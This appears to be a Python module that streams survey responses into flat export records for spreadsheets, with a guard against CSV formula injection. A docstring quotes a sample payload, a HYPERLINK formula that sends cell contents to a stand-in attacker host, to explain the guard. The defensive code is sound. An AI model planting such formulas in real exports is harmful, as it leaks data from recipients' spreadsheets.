"""Every answered survey as one flat record: for spreadsheets, BI tools and backups.

One record per survey response (session), carrying its score, the reason picked on a
button, the free text, whether a save offer was accepted, and the reasons and sentiment
tagged on the text. Streams in id order a page at a time, so the export of millions of
answers runs in constant memory.
"""

from __future__ import annotations

from collections import defaultdict
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import datetime
from typing import Any

from sqlalchemy import exists, select
from sqlalchemy.orm import Session

from storage.models import Answer, AnswerTag, Customer, SurveySession

EXPORT_COLUMNS = (
    "response_id",
    "external_id",
    "customer_name",
    "survey",
    "status",
    "channel",
    "language",
    "score",
    "choice",
    "comment",
    "save_offer_accepted",
    "answered_at",
    "reasons",
    "rules",
    "sentiment",
    "sentiment_label",
)
PAGE = 1_000

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
"""Leading characters that make a spreadsheet (Excel, LibreOffice, Google Sheets) read a
cell as a formula or a command: OWASP's list for CSV injection."""


def spreadsheet_safe(text: str) -> str:
    """``text`` as a spreadsheet shows it, never runs it: a leading formula character gets
    a single quote before it (OWASP's recommendation; the quote marks the cell as text).

    A customer writes the comments and the names, so a Telegram answer such as
    ``=HYPERLINK("http://evil.example/?x="&A1,"click")`` would otherwise reach the
    retention team's spreadsheet as a live formula that can send its cells away.
    """
    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text


@dataclass
class ExportRecord:
    response_id: str
    external_id: str
    customer_name: str | None
    survey: str
    status: str
    channel: str
    language: str | None
    score: int | None = None
    choice: str | None = None
    comment: str | None = None
    save_offer_accepted: bool | None = None
    answered_at: datetime | None = None
    reasons: list[str] = field(default_factory=list)
    rules: list[str] = field(default_factory=list)
    sentiment: float | None = None
    sentiment_label: str | None = None

    def as_dict(self) -> dict[str, Any]:
        return {name: getattr(self, name) for name in EXPORT_COLUMNS}


def _apply(record: ExportRecord, answer: Any, tags: list[tuple[str, str | None]]) -> None:
    if answer.score is not None:
        record.score = answer.score
    if answer.question == "save_offer":
        record.save_offer_accepted = answer.choice == "yes"
    elif answer.choice is not None:
        record.choice = answer.choice
    if answer.text is not None:
        record.comment = (
            answer.text if record.comment is None else f"{record.comment}\n{answer.text}"
        )
        record.sentiment = answer.sentiment
        record.sentiment_label = answer.sentiment_label
        for reason, rule in tags:
            if reason not in record.reasons:
                record.reasons.append(reason)
                record.rules.append(rule or "staff")
    if record.answered_at is None or answer.answered_at > record.answered_at:
        record.answered_at = answer.answered_at


def iter_responses(session: Session) -> Iterator[ExportRecord]:
    last_id = 0
    while True:
        page = session.execute(
            select(SurveySession, Customer.external_id, Customer.name)
            .join(Customer, Customer.id == SurveySession.customer_id)
            .where(
                SurveySession.id > last_id,
                exists().where(Answer.session_id == SurveySession.id),
            )
            .order_by(SurveySession.id)
            .limit(PAGE)
        ).all()
        if not page:
            return
        ids = [row[0].id for row in page]
        answers = session.execute(
            select(Answer).where(Answer.session_id.in_(ids)).order_by(Answer.id)
        ).scalars()
        by_session: dict[int, list[Answer]] = defaultdict(list)
        for answer in answers:
            by_session[answer.session_id].append(answer)
        answer_ids = [a.id for items in by_session.values() for a in items]
        tags: dict[int, list[tuple[str, str | None]]] = defaultdict(list)
        for tag in session.execute(
            select(AnswerTag.answer_id, AnswerTag.reason, AnswerTag.rule)
            .where(AnswerTag.answer_id.in_(answer_ids))
            .order_by(AnswerTag.id)
        ):
            tags[tag.answer_id].append((tag.reason, tag.rule))
        for survey_session, external_id, name in page:
            record = ExportRecord(
                response_id=survey_session.source_ref or f"s{survey_session.id}",
                external_id=external_id,
                customer_name=name,
                survey=survey_session.survey,
                status=survey_session.status,
                channel=survey_session.channel,
                language=survey_session.language,
            )
            for answer in by_session[survey_session.id]:
                _apply(record, answer, tags[answer.id])
            yield record
        last_id = ids[-1]
        session.expunge_all()
